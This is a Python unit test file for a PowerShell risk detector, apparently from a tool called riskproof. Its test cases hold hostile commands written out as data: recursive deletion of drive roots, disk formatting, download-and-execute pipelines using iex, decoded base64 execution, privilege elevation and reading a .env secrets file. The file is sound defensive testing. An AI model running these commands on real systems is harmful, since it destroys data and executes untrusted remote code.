"""PowerShell."""

from __future__ import annotations

import base64

import pytest

from riskproof.detect.powershell import is_cmdlet
from riskproof.detect.shell import analyse
from tests.unit.detect.reading import (
    DAMAGE,
    DECODE,
    DOWNLOAD,
    DYNAMIC,
    NETWORK,
    OPAQUE,
    POWER,
    PRIVILEGE,
    PRIVILEGED,
    RECURSIVE,
    categories,
)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Remove-Item -Recurse -Force C:\\*", [DAMAGE, RECURSIVE]),
        ("remove-item -fo -rec -Path 'D:\\'", [DAMAGE, RECURSIVE]),
        ("Remove-Item -Recurse -Force C:\\tmp", [RECURSIVE]),
        ("Remove-Item x.txt", []),
        ("Get-ChildItem C:\\x -Recurse | Remove-Item -Force -Recurse", [RECURSIVE]),
        ("if ($a) { rm -Recurse x } else { Get-Date }", [RECURSIVE]),
        ("$c = 'Remove-Item'; & $c -Recurse x", [RECURSIVE]),
        ("[IO.Directory]::Delete('C:\\x', $true)", [RECURSIVE]),
        ("iwr https://a.test/x.ps1 | iex", [DOWNLOAD, NETWORK]),
        ('iex "$(irm https://a.test)"', [DOWNLOAD, NETWORK]),
        ("IEX (New-Object Net.WebClient).DownloadString('https://a.test')", [DOWNLOAD, NETWORK]),
        ("$a = iwr https://a.test; iex $a.Content", [DOWNLOAD, NETWORK]),
        ("iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($x)))", [DECODE, DYNAMIC]),
        ("Invoke-Expression $x", [DYNAMIC]),
        ("Stop-Computer -Force", [POWER]),
        ("Start-Process cmd -Verb RunAs", [PRIVILEGE, PRIVILEGED]),
        ("Format-Volume -DriveLetter C", [DAMAGE]),
        ("Write-Output 'Remove-Item -Recurse C:\\'", []),
        ("Get-Process | Where-Object { $_.CPU -gt 10 }", []),
        ("# Remove-Item -Recurse C:\\\nGet-Date", []),
    ],
)
def test_powershell_is_read_by_its_own_grammar(text: str, expected: list[str]) -> None:
    assert categories(text, "powershell") == expected


def test_an_encoded_command_is_opaque_and_read_all_the_same() -> None:
    encoded = base64.b64encode("Remove-Item -Recurse -Force C:\\*".encode("utf-16-le")).decode()
    assert categories(f"powershell -NoProfile -enc {encoded}") == [DAMAGE, RECURSIVE, OPAQUE]


def test_files_and_addresses_are_named() -> None:
    view = analyse("(New-Object Net.WebClient).DownloadFile('https://a.test/x', 'y'); Get-Content .env > out.txt", "powershell")
    assert (view.paths, view.hosts) == ((("out.txt", True), (".env", False)), ("https://a.test/x",))


def test_cmdlets_are_told_from_unix_programs() -> None:
    names = ("remove-item", "invoke-webrequest", "iex", "apt-get", "ssh-keygen", "update-alternatives", "start-stop-daemon", "ls")
    assert [is_cmdlet(name) for name in names] == [True, True, True, False, False, False, False, False]


def test_broken_powershell_is_not_parsed() -> None:
    assert analyse("Get-Item 'x", "powershell").parsed is False
